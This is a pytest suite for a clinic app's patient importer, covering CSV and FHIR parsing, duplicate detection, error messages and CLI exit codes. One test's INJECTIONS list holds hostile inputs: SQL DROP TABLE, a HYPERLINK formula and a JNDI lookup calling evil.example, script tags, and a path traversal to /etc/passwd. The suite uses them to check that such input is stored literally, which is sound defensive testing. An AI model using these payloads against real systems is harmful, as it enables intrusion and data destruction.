"""Importing patients from CSV and FHIR: exact counts, idempotent, literal, through the outbox."""

from __future__ import annotations

import json
import re
import sqlite3
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from sqlmodel import Session

from coordtui.interop.fhir import export_bundle
from coordtui.interop.importer import ImportAborted, import_file, import_record_number
from coordtui.service import Service
from coordtui.store.models import Patient
from tests.builders import StoreBuilder

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "data"

HEADER = (
    "First Name,SURNAME,Date of Birth,Gender,Mobile,Email,Address,Interpreter,Copay,MRN,Shoe size\n"
)
GOOD_AND_BAD = (
    HEADER
    + "José,García,1980-03-14,M,(617) 555-0101,jose@example.org,,yes,20.00,,44\n"  # line 2
    + 'Siobhán,O\'Brien,1972-11-02,f,617-555-0102,,"48 Beacon St\nApt 2",no,25,,\n'  # 3-4
    + "Aaliyah,Washington,2099-05-01,female,617-555-0107,,,,,,\n"  # line 5: future DOB
    + "\n"  # line 6: blank
    + "伟,王,1965-01-08,male,617 555 0104,,,1,0,MRN777,\n"  # line 7
    + "Μαρία,Παπαδοπούλου,1968-03-25,female,555-01,,,,,,\n"  # line 8: bad phone
    + ",Nameless,1990-01-01,,,,,,,,\n"  # line 9: no given name
    + "Zoë,Müller,2019-02-11,female,,,,maybe,,,\n"  # line 10: bad interpreter value
    + "Ana,Silva,1990-01-01,female,,,,,,,,,extra\n"  # line 11: too many cells
)


def service_for(path: Path) -> Service:
    return Service(path, actor="importer-test")


@pytest.fixture
def service(builder, db_path):
    s = service_for(db_path)
    yield s
    s.close()


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def patients(db_path: Path) -> dict[str, tuple]:
    conn = sqlite3.connect(db_path)
    try:
        rows = conn.execute(
            "SELECT record_number, given_name, family_name, preferred_name, dob, sex, phone,"
            " phone_alt, email, address, preferred_language, interpreter_needed, copay_cents"
            " FROM patient ORDER BY record_number"
        ).fetchall()
    finally:
        conn.close()
    return {r[0]: r[1:] for r in rows}


def outbox(db_path: Path) -> list[tuple[str, dict]]:
    conn = sqlite3.connect(db_path)
    try:
        rows = conn.execute("SELECT name, args FROM outbox ORDER BY mutation_id").fetchall()
    finally:
        conn.close()
    return [(name, json.loads(args)) for name, args in rows]


# ----------------------------------------------------------------- CSV


def test_csv_good_rows_in_bad_rows_reported_by_physical_line(service, db_path, tmp_path):
    seen = []
    report = import_file(
        service, write(tmp_path, "p.csv", GOOD_AND_BAD), lambda d, t: seen.append((d, t))
    )
    assert (report.total, report.imported, report.already_present) == (8, 3, 0)
    assert report.failed == [
        (5, "dob: Date of birth cannot be in the future."),
        (8, "phone: This phone number is not valid: check the number of digits and the area code."),
        (9, "given_name: Required."),
        (10, "interpreter_needed: Use yes or no (or true/false, 1/0)."),
        (11, "row: 13 cells but the header has 11 (a comma inside a value needs quotes)."),
    ]
    assert report.ignored_columns == ("Shoe size",)
    assert seen[0] == (0, 8) and seen[-1] == (8, 8)
    stored = patients(db_path)
    assert len(stored) == 3
    jose = stored[import_record_number({"given_name": "José", "family_name": "García",
                                        "dob": "1980-03-14", "phone": "(617) 555-0101"}, "US")]  # fmt: skip
    assert jose == ("José", "García", "", "1980-03-14", "male", "+16175550101", "",
                    "jose@example.org", "", "", 1, 2000)  # fmt: skip
    assert stored["MRN777"][:2] == ("伟", "王")
    siobhan = next(v for v in stored.values() if v[1] == "O'Brien")
    assert siobhan[8] == "48 Beacon St\nApt 2" and siobhan[4] == "female"
    assert siobhan[11] == 2500


def test_reasons_never_carry_the_values(service, tmp_path):
    report = import_file(service, write(tmp_path, "p.csv", GOOD_AND_BAD))
    text = " ".join(reason for _, reason in report.failed)
    for value in ("2099-05-01", "555-01", "Παπαδοπούλου", "Washington", "maybe", "extra"):
        assert value not in text


def test_second_run_imports_nothing_and_says_already_present(service, db_path, tmp_path):
    path = write(tmp_path, "p.csv", GOOD_AND_BAD)
    first = import_file(service, path)
    again = import_file(service, path)
    assert (again.imported, again.already_present, again.total) == (0, first.imported, 8)
    assert again.failed == first.failed
    assert len(patients(db_path)) == 3
    # Another spelling of the same rows (case, accents, phone format) is the same people.
    respelled = write(
        tmp_path, "q.csv", "given,family,dob,phone\njose,GARCIA,1980-03-14,+1 617 555 0101\n"
    )
    assert import_file(service, respelled).already_present == 1


def test_a_second_workstation_recognises_the_rows_too(tmp_path):
    """The derived record number is a pure function of the row, not of the store."""
    row = {"given_name": "Ana Luísa", "family_name": "da Silva", "dob": "2012-10-03",
           "phone": "617-555-0114"}  # fmt: skip
    assert import_record_number(row, "US") == import_record_number(
        {**row, "given_name": "ANA LUISA", "phone": "+16175550114"}, "US"
    )
    assert import_record_number(row, "US").startswith("IMP")
    assert len(import_record_number(row, "US")) == 13


def test_outbox_has_one_register_patient_per_imported_row(service, db_path, tmp_path):
    report = import_file(service, write(tmp_path, "p.csv", GOOD_AND_BAD))
    entries = outbox(db_path)
    assert [name for name, _ in entries] == ["register_patient"] * report.imported
    assert sorted(args["record_number"] for _, args in entries) == sorted(patients(db_path))
    import_file(service, write(tmp_path, "p.csv", GOOD_AND_BAD))
    assert len(outbox(db_path)) == report.imported  # nothing queued by the re-run


INJECTIONS = [
    "Robert'); DROP TABLE patient;--",
    '=HYPERLINK("http://evil.example","x")',
    "<script>alert(1)</script>",
    "[bold red]markup[/]",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n {0} {{7*7}}",
    "../../etc/passwd",
]


def test_injection_strings_are_stored_literally(service, db_path, tmp_path):
    lines = ["given,family,address,flags"]
    for i, text in enumerate(INJECTIONS):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f"{quoted},Family{i},{quoted},{quoted}")
    report = import_file(service, write(tmp_path, "i.csv", "\n".join(lines) + "\n"))
    assert (report.imported, report.failed) == (len(INJECTIONS), [])
    conn = sqlite3.connect(db_path)
    rows = conn.execute(
        "SELECT given_name, address, flags FROM patient ORDER BY family_name"
    ).fetchall()
    conn.close()
    assert rows == [(t, t, t) for t in INJECTIONS]


def test_control_characters_are_refused_by_field(service, tmp_path):
    path = write(tmp_path, "c.csv", "given,family,mrn\nEve\x1b[2J,Smith,\nAda,Lovelace,M\x07\n")
    report = import_file(service, path)
    assert report.imported == 0
    assert [(line, reason.split(":")[0]) for line, reason in report.failed] == [
        (2, "given_name"),
        (3, "record_number"),
    ]


def test_semicolons_bom_and_day_month_dates(service, db_path, tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes("\ufeffNom;Last_Name;First_Name;DOB\nx;Dupont;Léa;14/03/1980\n".encode())
    report = import_file(service, path)
    assert (report.imported, report.ignored_columns) == (1, ("Nom",))
    assert next(iter(patients(db_path).values()))[:4] == ("Léa", "Dupont", "", "1980-03-14")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("p.txt", "given,family\n", ".csv files"),
        ("p.csv", "", "empty"),
        ("p.csv", "name,phone\nAda,1\n", "given-name and a family-name"),
        ("p.csv", "first,given,last\n", "both give given_name"),
        ("p.json", "{not json", "Not valid JSON (line 1, column 2)"),
        ("p.json", '{"resourceType": "Practitioner"}', "Expected a FHIR Bundle"),
        ("p.json", "[1, 2]", "Expected a FHIR Bundle"),
    ],
)
def test_unreadable_files_abort_before_writing(service, db_path, tmp_path, name, content, message):
    with pytest.raises(ImportAborted, match=re.escape(message)):
        import_file(service, write(tmp_path, name, content))
    assert patients(db_path) == {} and outbox(db_path) == []


def test_not_utf8_and_missing_file(service, tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes("given,family\nJos\xe9,Garc\xeda\n".encode("latin-1"))
    with pytest.raises(ImportAborted, match="not UTF-8"):
        import_file(service, path)
    with pytest.raises(ImportAborted, match="No such file"):
        import_file(service, tmp_path / "missing.csv")


def test_store_without_a_clinic_is_refused(tmp_path):
    bare = Service(tmp_path / "bare.db", actor="t")
    try:
        with pytest.raises(ImportAborted, match="no clinic"):
            import_file(bare, DATA / "patients_sample.csv")
    finally:
        bare.close()


# ----------------------------------------------------------------- FHIR


def test_sample_files_import_as_documented(service, db_path):
    csv_report = import_file(service, DATA / "patients_sample.csv")
    assert (csv_report.total, csv_report.imported) == (20, 18)
    assert [line for line, _ in csv_report.failed] == [8, 15]
    assert csv_report.failed[0][1].startswith("dob:") and csv_report.failed[1][1].startswith(
        "phone:"
    )
    fhir = import_file(service, DATA / "patients_sample_bundle.json")
    assert (fhir.kind, fhir.total, fhir.imported, fhir.failed) == ("fhir", 5, 5, [])
    lupe = patients(db_path)["MRN3000001"]
    assert lupe[:5] == ("Guadalupe", "Hernández", "Lupe", "1983-07-19", "female")
    assert lupe[9:11] == ("es", 1)
    again = import_file(service, DATA / "patients_sample_bundle.json")
    assert (again.imported, again.already_present) == (0, 5)


def test_fhir_bad_entries_reported_by_index(service, tmp_path):
    bundle = {
        "resourceType": "Bundle",
        "type": "collection",
        "entry": [
            {"resource": {"resourceType": "Practitioner", "id": "p1"}},
            {"resource": {"resourceType": "Patient", "name": [{"family": "Solo"}]}},
            {"fullUrl": "urn:x"},
            {"resource": {"resourceType": "Patient", "name": "Ada Lovelace"}},
            {
                "resource": {
                    "resourceType": "Patient",
                    "name": [{"given": ["Ada"], "family": "Lovelace"}],
                    "birthDate": "1815",
                }
            },
            {"resource": {"resourceType": "Patient", "name": [{"text": "Grace Hopper"}]}},
        ],
    }
    report = import_file(service, write(tmp_path, "b.json", json.dumps(bundle)))
    assert (report.total, report.imported, report.skipped) == (5, 1, 1)
    assert report.failed == [
        (1, "given_name: Required."),
        (2, "entry: No resource in this entry."),
        (3, "given_name: Required.; family_name: Required."),
        (4, "dob: Date of birth must be a date like 1980-03-14."),
    ]


def test_export_then_import_keeps_every_name_exactly(builder, db_path, tmp_path):
    names = [
        ("José", "García Márquez", "Pepe"),
        ("Siobhán", "O'Brien", ""),
        ("Mary-Kate", "Smith-Jones", "Kate"),
        ("伟", "王", "Wei"),
        ("Thị Lan", "Nguyễn", ""),
        ("Ольга", "Иванова", ""),
        ("فاطمة", "حداد", "Fatima"),
        ("Søren", "Østergaard", ""),
        ("D'Andre", "de la Cruz", ""),
        ("Zoë", "Ó Súilleabháin", ""),
    ]
    provider = builder.provider()
    ids = []
    for i, (given, family, preferred) in enumerate(names):
        ids.append(
            builder.patient(
                given,
                family,
                preferred_name=preferred,
                dob=date(1950 + i, 1 + i, 10 + i),
                sex=("female", "male", "other", "unknown")[i % 4],
                phone=f"+1617555{i:04d}",
                phone_alt="+16175550199" if i == 3 else "",
                email=f"p{i}@example.org" if i % 2 else "",
                address="1 Main St, Boston, MA 02110" if i == 2 else "",
                preferred_language="es" if i == 0 else "",
                interpreter_needed=i == 0,
            )
        )
    builder.appointment(ids[0], provider)
    merged = builder.patient("José", "García Márquez", record_number="DUPLICATE1")
    with Session(builder.engine) as s:
        s.get(Patient, merged).merged_into = ids[0]
        s.commit()
    source = patients(db_path)
    bundle = tmp_path / "export.json"
    bundle.write_text(export_bundle(db_path), encoding="utf-8")

    fresh_path = tmp_path / "fresh.db"
    StoreBuilder(fresh_path).close()
    fresh = service_for(fresh_path)
    try:
        report = import_file(fresh, bundle)
    finally:
        fresh.close()
    assert (report.imported, report.failed) == (len(names), [])
    assert report.skipped == 3  # the practitioner, the appointment, the merged-away record
    del source["DUPLICATE1"]
    copied = patients(fresh_path)
    assert copied == source
    assert [(g, f, p) for g, f, p, *_ in copied.values()] == [
        (g, f, p) for g, f, p, *_ in source.values()
    ]


# ------------------------------------------------------------------- CLI


def cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    import os

    return subprocess.run(
        [sys.executable, "-m", "coordtui", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **(env or {})},
    )


def test_cli_import_exit_codes_and_messages(builder, db_path, tmp_path):
    bad = cli("import", str(DATA / "patients_sample.csv"), "--db", str(db_path))
    assert bad.returncode == 1, bad.stderr
    assert "Imported 18 of 20 patients, 0 already present, 2 failed." in bad.stdout
    assert "line 8: dob: Date of birth cannot be in the future." in bad.stderr
    assert "line 15: phone:" in bad.stderr
    assert "Παπαδοπούλου" not in bad.stdout + bad.stderr

    good = cli("import", str(DATA / "patients_sample_bundle.json"), "--db", str(db_path))
    assert good.returncode == 0, good.stderr
    assert "Imported 5 of 5 patients" in good.stdout

    again = cli("import", str(DATA / "patients_sample_bundle.json"), "--db", str(db_path))
    assert again.returncode == 0 and "0 of 5 patients, 5 already present" in again.stdout

    missing = cli("import", str(tmp_path / "none.csv"), "--db", str(db_path))
    assert missing.returncode == 2 and "No such file" in missing.stderr
    garbage = write(tmp_path, "g.json", "{oops")
    assert cli("import", str(garbage), "--db", str(db_path)).returncode == 2
    no_store = cli("import", str(DATA / "patients_sample.csv"), "--db", str(tmp_path / "x.db"))
    assert no_store.returncode == 2 and not (tmp_path / "x.db").exists()
